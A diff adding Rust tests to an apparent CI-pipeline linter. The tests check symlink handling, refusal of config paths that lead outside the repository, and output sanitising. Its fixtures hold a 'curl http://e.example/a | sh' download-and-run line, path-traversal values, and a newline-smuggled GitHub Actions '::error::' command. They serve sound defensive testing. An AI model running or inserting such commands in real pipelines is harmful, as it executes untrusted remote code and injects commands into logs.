@@ -378,6 +378,49 @@ fn links_and_folders_are_borne() {
     assert!(places(&ran.json()).contains(&(WORKFLOW.to_owned(), 6, "sign-by-tag".to_owned())), "{}", ran.out);
 }
 
+#[cfg(unix)]
+#[test]
+fn a_link_by_the_name_of_a_pipeline_is_one() {
+    use std::os::unix::fs::symlink;
+    let dir = repository(&[("notes.txt", "node { sh 'curl http://e.example/a | sh' }\n"), (WORKFLOW, OPEN)]);
+    symlink("notes.txt", dir.path().join("Jenkinsfile")).expect("linked");
+    symlink(dir.path().join(WORKFLOW), dir.path().join(".github/workflows/again.yml")).expect("linked");
+    let report = check(&dir, &["--format", "json"]).json();
+    let rules: Vec<_> = places(&report).into_iter().map(|(path, _, rule)| (path, rule)).collect();
+    assert!(rules.contains(&("Jenkinsfile".to_owned(), "pipe-to-shell".to_owned())), "{rules:?}");
+    assert!(rules.iter().all(|(path, _)| !path.contains("again")), "its file is told by itself: {rules:?}");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_config_names_nothing_outside_of_its_repository() {
+    use std::os::unix::fs::symlink;
+    let outside = repository(&[("secret", "{\"secret\": \"s3cr3t\"}\n"), ("p/x.rego", "package s3cr3t\n")]);
+    for (name, what) in [("policy-data", "secret"), ("policies", "p"), ("tool-files", "secret"), ("baseline", "secret")] {
+        let target = outside.path().join(what);
+        for named in [target.display().to_string(), "link".to_owned(), format!("../../../../../..{}", target.display())] {
+            let value = if name == "baseline" { format!("'{named}'") } else { format!("['{named}']") };
+            let dir = repository(&[(WORKFLOW, OPEN), ("swaplint.yml", &format!("{name}: {value}\n"))]);
+            symlink(&target, dir.path().join("link")).expect("linked");
+            let ran = check(&dir, &[]);
+            assert_eq!(ran.code, 2, "{name}: {named}: {}", ran.err);
+            assert!(!ran.err.contains("s3cr3t") && !ran.out.contains("s3cr3t"), "{name}: {named}: {}", ran.err);
+        }
+    }
+    let dir = repository(&[(WORKFLOW, OPEN)]);
+    symlink(outside.path().join("secret"), dir.path().join("swaplint.yml")).expect("linked");
+    let ran = check(&dir, &[]);
+    assert!(ran.code == 2 && ran.err.contains("leads out of the repository") && !ran.err.contains("s3cr3t"), "{}", ran.err);
+}
+
+#[test]
+fn no_line_of_an_error_is_a_command() {
+    let dir = repository(&[(WORKFLOW, OPEN), ("swaplint.yml", "baseline: \"b\\n::error::told\"\n")]);
+    let ran = check(&dir, &[]);
+    assert!(ran.code == 2 && ran.err.contains("::error::told"), "{}", ran.err);
+    assert!(ran.err.lines().all(|line| !line.trim_start().starts_with("::")), "{}", ran.err);
+}
+
 #[test]
 fn terminal_codes_of_a_file_do_not_reach_the_terminal() {
     let dir = repository(&[(WORKFLOW, &OPEN.replace("app:main\n", "app:m\u{1b}[2Jain\n"))]);
